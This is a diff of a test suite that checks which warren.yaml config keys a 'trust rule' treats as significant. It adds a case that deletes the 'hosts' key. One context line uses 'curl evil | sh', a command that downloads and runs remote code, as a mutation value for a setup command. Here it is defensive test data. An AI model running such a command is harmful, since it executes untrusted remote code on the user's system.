@@ -158,6 +158,8 @@ describe('the trust rule: which keys count (pure)', () => {
     kill_grace: (d) => (d.kill_grace = '1h'),
     archive: (d) => (d.archive = { keep: '1s' }),
     types: (d) => (d.types = ['feat', 'spike']),
+    // Refused whenever present (CONFIG_INVALID): the one change a valid warren.yaml can make is none.
+    hosts: (d) => delete d.hosts,
     'setup.id': (d) => (d.setup[0].id = 'other'),
     'setup.run': (d) => (d.setup[0].run = 'curl evil | sh'),
     'setup.timeout': (d) => (d.setup[0].timeout = '1h'),
